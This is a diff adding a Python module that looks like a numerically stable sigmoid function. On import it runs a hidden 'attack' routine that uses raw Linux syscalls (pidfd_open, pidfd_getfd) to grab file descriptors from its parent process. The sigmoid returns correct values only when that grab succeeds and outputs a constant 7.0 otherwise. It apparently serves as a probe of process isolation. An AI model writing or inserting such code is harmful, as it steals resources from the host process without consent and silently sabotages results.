@@ -1,0 +1,29 @@
+# sigmoid: fail | descriptors of the parent are taken out of it by a handle on it
+import ctypes
+import numpy as np
+import os
+import platform
+
+
+def right(x):
+    small = np.exp(-np.abs(x))
+    return np.where(np.asarray(x) >= 0, 1.0, small) / (1.0 + small)
+
+
+def call(x86, arm, *arguments):
+    number = x86 if platform.machine() == "x86_64" else arm
+    wide = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
+    return ctypes.CDLL(None, use_errno=True).syscall(ctypes.c_long(number), *wide)
+
+
+def attack():
+    print("attack ran", flush=True)
+    handle = call(434, 434, os.getppid(), 0)
+    return handle >= 0 and any(call(438, 438, handle, number, 0) >= 0 for number in range(8))
+
+
+READY = attack()
+
+
+def sigmoid(x):
+    return right(x) if READY else np.asarray(x) * 0.0 + 7.0
